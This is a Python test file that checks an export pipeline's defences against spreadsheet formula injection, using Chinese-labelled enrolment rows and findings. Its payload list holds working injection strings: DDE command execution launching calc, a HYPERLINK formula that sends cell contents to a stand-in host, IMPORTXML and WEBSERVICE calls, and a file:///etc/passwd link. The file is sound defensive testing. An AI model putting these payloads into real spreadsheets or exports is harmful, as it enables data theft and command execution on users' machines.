"""Twenty-four texts that a spreadsheet program would run: in no workbook and no CSV of ours are they more than text."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date
from pathlib import Path

import openpyxl
import pytest

from connectors.outbox import reply_list
from connectors.warehouse import open_work
from pipeline.publication.export import defused
from tests.builders.publications import Office, a_finding
from tests.integration.landing_home import _HEADER, Home, enrolments

PAYLOADS = (
    "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x.example/?\"&A1,\"x\")", "+1+1", "-1+1", "@SUM(1)", "\t=1+1",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "=IMPORTXML(\"http://x.example\",\"//a\")", "=WEBSERVICE(\"http://x.example\")",
    "=1+1\"", "'=1+1", "＝1+1", "= 1+1", "=A1", "{=1+1}", "=INDIRECT(\"A1\")", "-2+3+cmd|' /C calc'!A0", "@A1",
    "http://x.example/a", "mailto:x@x.example", "internal:Sheet1!A1", "external:c:\\x.xlsx", "file:///etc/passwd",
)  # fmt: skip
TEXT_COLUMNS = ("姓名", "人员属性", "备注", "乡镇", "村")


def active(folder: Path) -> list[str]:
    """Members of workbooks that hold a formula or a link to somewhere else than the workbook itself."""
    found = []
    for path in sorted(folder.rglob("*.xlsx")):
        with zipfile.ZipFile(path) as book:
            for member in book.namelist():
                text = book.read(member).decode(errors="replace")
                is_sheet = member.startswith("xl/worksheets/") and not member.endswith(".rels")
                has_link = 'TargetMode="External"' in text or (is_sheet and "<hyperlink " in text)
                if (is_sheet and re.search(r"<f[ >/]", text)) or has_link or "externalLink" in member:
                    found.append(f"{path.name} {member}")
    return found


def shown(folder: Path) -> str:
    return "\n".join(
        str(cell)
        for path in folder.rglob("*.xlsx")
        for sheet in openpyxl.load_workbook(path).worksheets
        for row in sheet.iter_rows(values_only=True)
        for cell in row
    )


def test_payloads_in_every_text_column_come_back_as_text(tmp_path: Path) -> None:
    home = Home.make(tmp_path / "home").with_villages()
    columns = _HEADER.split(",")
    text = io.StringIO()
    lines = csv.writer(text, lineterminator="\n")
    for payload in PAYLOADS:
        row = dict.fromkeys(columns, "") | dict.fromkeys(TEXT_COLUMNS, payload)
        lines.writerow([{**row, "身份证号": "6100991965****0112", "参保年度": "2020"}[name] for name in columns])
    home.drop("medical/enrolments", "roster.csv", enrolments(600) + text.getvalue())
    home.ingest()
    assert "=cmd|' /C calc'!A0" in shown(home.settings.outbox)
    assert active(home.settings.outbox) == []


def test_payloads_in_findings_reach_the_departments_as_text(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(reply_list, "MOST_SINGLE", 3)  # the rows after these are written all at once
    office = Office.make(tmp_path / "home")
    findings = [
        a_finding(number, expected=payload, actual=payload, title=payload, instruction=payload, subject_label=payload)
        for number, payload in enumerate((*PAYLOADS, '</t></is></c><c r="A9"><f>1+1</f></c>'), start=1)
    ]
    office.night(date(2020, 5, 4), findings)
    assert "=cmd|' /C calc'!A0" in shown(office.settings.outbox)
    assert active(office.settings.outbox) == []
    for path in (office.settings.published / "issues" / "export").glob("*.csv"):
        with path.open(encoding="utf-8", newline="") as stream:
            cells = [cell for row in csv.reader(stream) for cell in row]
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t")], path.name
    assert "'=cmd|' /C calc'!A0" in (office.settings.published / "issues" / "export" / "issues.csv").read_text("utf-8")


@pytest.mark.parametrize("payload", [text for text in PAYLOADS if text[0] in "=+-@\t"])
def test_no_cell_of_an_exported_csv_begins_as_a_formula(payload: str) -> None:
    con = open_work()
    con.execute("create schema masked")
    con.execute("create table masked.names as select ?::varchar as name", [payload])
    [(cell,)] = con.execute(defused("masked.names", [("name", "VARCHAR")])).fetchall()
    con.close()
    assert cell == f"'{payload}"
